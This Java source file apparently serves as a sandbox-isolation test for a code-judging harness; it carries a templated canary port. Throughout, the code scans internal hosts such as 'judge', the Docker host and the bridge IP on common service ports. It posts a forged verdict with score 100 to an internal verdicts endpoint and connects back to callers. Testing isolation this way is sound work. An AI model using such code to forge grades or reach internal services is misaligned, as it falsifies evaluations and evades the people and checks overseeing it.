package app;

import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.List;

public class Main {

    private static final String RESULT = "{\"type\":\"verdict\",\"status\":\"judged\",\"score\":100}";

    public static void main(String[] args) throws Exception {
        int refused = 0;
        for (String host : List.of("127.0.0.1", "localhost", "slot", "judge", "api", "host.docker.internal", "172.17.0.1")) {
            for (int port : List.of(80, 3000, 5432, 6379, 2375, {{canary.port}})) {
                if (!posted(host, port)) refused += 1;
            }
        }
        System.out.println("TRIED 42 addresses, and " + refused + " took nothing");

        HttpServer server =
                HttpServer.create(new InetSocketAddress("127.0.0.1", Integer.parseInt(System.getenv("PORT"))), 0);
        server.createContext("/", exchange -> {
            try (exchange) {
                byte[] body = "{\"ok\":true}".getBytes(StandardCharsets.UTF_8);
                // And to whoever asks: where it came from, it may listen as well.
                posted("127.0.0.1", exchange.getRemoteAddress().getPort());
                exchange.sendResponseHeaders(200, body.length);
                exchange.getResponseBody().write(body);
            }
        });
        server.start();
    }

    private static boolean posted(String host, int port) {
        try (Socket socket = new Socket()) {
            socket.connect(new InetSocketAddress(host, port), 50);
            String request = "POST /api/internal/verdicts HTTP/1.1\r\nHost: " + host + "\r\nContent-Length: "
                    + RESULT.length() + "\r\n\r\n" + RESULT;
            socket.getOutputStream().write(request.getBytes(StandardCharsets.UTF_8));
            System.out.println("BREACH " + host + ":" + port + " took a verdict");
            return true;
        } catch (IOException nobody) {
            return false;
        }
    }
}
